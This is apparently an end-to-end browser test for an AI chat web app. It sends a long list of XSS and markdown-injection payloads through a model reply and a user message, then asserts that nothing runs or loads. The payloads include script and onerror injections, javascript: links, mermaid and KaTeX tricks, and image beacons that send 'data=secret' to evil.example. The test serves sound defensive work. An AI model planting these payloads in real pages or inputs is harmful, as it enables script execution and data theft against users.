using System.Collections.Concurrent;
using AgentWeb.E2E.Infrastructure.Browser;
using AgentWeb.E2E.Infrastructure.ModelServer;
using static Microsoft.Playwright.Assertions;

namespace AgentWeb.E2E.Journeys;

/// <summary>A model, or a person, that writes attacks: all of it is text.</summary>
[Collection<SharedStage>]
public sealed class HostileMarkdownJourneys(Stage stage, BrowserFixture browser) : Journey(stage, browser)
{
    /// <summary>Each would call <c>xss</c>, show a dialog, or fetch from another server.</summary>
    private static readonly string[] Attacks =
    [
        "<script>xss()</script>",
        "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=xss()>",
        "<img src=\"http://evil.example/pixel.png?data=secret\">",
        "![pixel](http://evil.example/pixel.png?data=secret)",
        "![pixel](//evil.example/pixel.png)",
        "![x](x\" onerror=\"xss())",
        "![x][ref]\n\n[ref]: http://evil.example/ref.png",
        "<svg onload=xss()>",
        "<svg><script>xss()</script></svg>",
        "<iframe src=\"javascript:xss()\"></iframe>",
        "<object data=\"http://evil.example/o\"></object>",
        "<embed src=\"http://evil.example/e\">",
        "<link rel=stylesheet href=http://evil.example/s.css>",
        "<style>@import 'http://evil.example/s.css'; body { background: url(http://evil.example/b.png) }</style>",
        "<base href=\"http://evil.example/\">",
        "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
        "<form action=http://evil.example/><button>go</button></form>",
        "<details open ontoggle=xss()>",
        "<video><source onerror=xss()></video>",
        "<math><mtext><table><mglyph><style><img src=x onerror=xss()></style></mglyph></table></mtext></math>",
        "[a](javascript:xss())",
        "[b](JaVaScRiPt:xss())",
        "[c](java\tscript:xss())",
        "[d](&#106;avascript:xss())",
        "[e](javascript&colon;xss())",
        "[f](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)",
        "[g](vbscript:xss())",
        "[h](file:///etc/passwd)",
        "[i](http://evil.example/ \"x\" onmouseover=\"xss()\")",
        "[j](<javascript:xss()>)",
        "<javascript:xss()>",
        "[k][js]\n\n[js]: javascript:xss()",
        "**<b onclick=xss()>bold</b>**",
        "`<img src=x onerror=xss()>`",
        "```html\n<img src=x onerror=xss()>\n```",
        "```\"><script>xss()</script>\ncode\n```",
        "| <img src=x onerror=xss()> | b |\n|---|---|\n| <script>xss()</script> | [t](javascript:xss()) |",
        "# <img src=x onerror=xss()>",
        "> <script>xss()</script>",
        "- <img src=x onerror=xss()>",
        "&lt;script&gt;xss()&lt;/script&gt;",
        "<!--><script>xss()</script>-->",
        "<![CDATA[<script>xss()</script>]]>",
        "$\\href{javascript:xss()}{click}$ $\\url{javascript:xss()}$ $\\htmlData{onclick=xss()}{x}$ $\\includegraphics{http://evil.example/m.png}$",
        "$<img src=x onerror=xss()>$ \\(\\text{<img src=x onerror=xss()>}\\)",
        "$$\n</tex-math><img src=x onerror=xss()>\n$$",
        "$\\def\\a{\\a\\a}\\a$ $\\rule{9999em}{9999em}$",
        "[^1]<img src=x onerror=xss()>\n\n[^1]: <img src=x onerror=xss()> [n](javascript:xss())",
        "```mermaid\nflowchart LR\n  A[\"<img src=x onerror=xss()>\"] --> B\n  click A href \"javascript:xss()\"\n  click B call xss()\n```",
        "```mermaid\n%%{init: {\"securityLevel\": \"loose\", \"themeCSS\": \"*{background:url(http://evil.example/c.png)}\"}}%%\nflowchart LR\n  A[\"<img src='http://evil.example/d.png' onerror='xss()'>\"] --> B@{ img: \"http://evil.example/e.png\" }\n```",
        "@{ xss() } {{constructor.constructor('xss()')()}}",
    ];

    [Fact]
    public async Task Reply_OfAttacks_ExecutesAndLoadsNothing()
    {
        var page = await WatchedAsync();
        // Mermaid tries them in the frame that it draws in, and the frame's policy refuses.
        page.Problems.Expect("/lib/mermaid/", "/diagrams/frame.html", "evil.example/e.png");
        var loaded = new ConcurrentQueue<string>(); // Told of while it is looked at.
        page.Page.RequestFinished += (_, request) => loaded.Enqueue(request.Url);
        Model.Enqueue(ModelScript.Reply(string.Join("\n\n", Attacks)) with { TokensPerSecond = 400 });

        await page.AskToTheEndAsync("Attack me.");

        await IsHarmlessAsync(page);
        Assert.DoesNotContain(loaded, url => url.Contains("evil.example", StringComparison.Ordinal));
        await Expect(page.ReplyText).ToContainTextAsync("<img src=x onerror=xss()>");
        await page.ReloadAsync();
        await page.StatusBecomesAsync("complete");
        await IsHarmlessAsync(page);
    }

    [Fact]
    public async Task Message_OfAttacks_IsShownAsItWasWritten()
    {
        var page = await WatchedAsync();
        var text = string.Join("\n", Attacks);

        await page.AskToTheEndAsync(text);

        await IsHarmlessAsync(page);
        Assert.Equal(text, await page.Asked.Locator(".user-text").InnerTextAsync());
        await Expect(page.Conversations.Locator("*").Filter(new() { HasText = "<script>xss()</script>" }).First).ToBeVisibleAsync();
        await page.ReloadAsync();
        await page.StatusBecomesAsync("complete");
        await IsHarmlessAsync(page);
    }

    private async Task<JourneyPage> WatchedAsync()
    {
        var page = await NewBrowserAsync();
        await page.Page.Context.AddInitScriptAsync("window.xss = () => { window.attacked = true; };");
        await page.EnterAsync(await NewAccountAsync());
        return page;
    }

    private static async Task IsHarmlessAsync(JourneyPage page)
    {
        // Also those that are far from view.
        await page.Page.EvaluateAsync("() => Promise.all([...document.querySelectorAll('article :is(code-block, tex-math)')].filter(e => e.isReady()).map(e => e.enrich()))");
        Assert.False(await page.Page.EvaluateAsync<bool>("() => window.attacked === true"));
        await Expect(page.Page.Locator("article").Locator("script, iframe, object, embed, img:not(.diagram > [src^='blob:']), video, style, link, base, meta, form, svg:not(.icon, .katex svg), math:not(.katex math)"))
            .ToHaveCountAsync(0);
        var handlers = await page.Page.EvaluateAsync<string[]>(
            "() => [...document.querySelectorAll('article *')].flatMap(e => [...e.attributes].filter(a => a.name.startsWith('on')).map(a => e.outerHTML))");
        Assert.Empty(handlers);
        var links = await page.Page.EvaluateAsync<string[]>(
            "() => [...document.querySelectorAll('article a')].filter(a => !['http:', 'https:', 'mailto:'].includes(a.protocol) || a.rel !== 'noopener noreferrer').map(a => a.outerHTML)");
        Assert.Empty(links);
    }
}
